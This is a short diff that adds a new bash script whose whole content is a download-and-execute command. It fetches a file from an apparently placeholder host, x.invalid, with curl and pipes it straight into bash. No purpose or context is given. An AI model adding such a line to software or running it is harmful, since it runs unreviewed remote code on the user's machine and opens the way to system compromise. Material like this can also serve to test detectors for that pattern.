@@ -1,0 +1,2 @@
+#!/bin/bash
+{ curl -s http://x.invalid/a; } | { bash; }
